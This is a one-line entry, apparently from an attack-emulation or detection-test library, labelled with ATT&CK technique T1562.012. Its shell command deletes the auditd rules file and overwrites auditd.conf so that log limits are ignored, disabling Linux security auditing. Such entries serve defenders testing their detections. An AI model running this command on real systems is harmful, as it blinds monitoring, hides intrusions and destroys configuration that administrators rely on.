# title: The rules of auditd are removed
# technique: T1562.012

rm -f /etc/audit/rules.d/audit.rules; echo 'max_log_file_action = ignore' >/etc/audit/auditd.conf
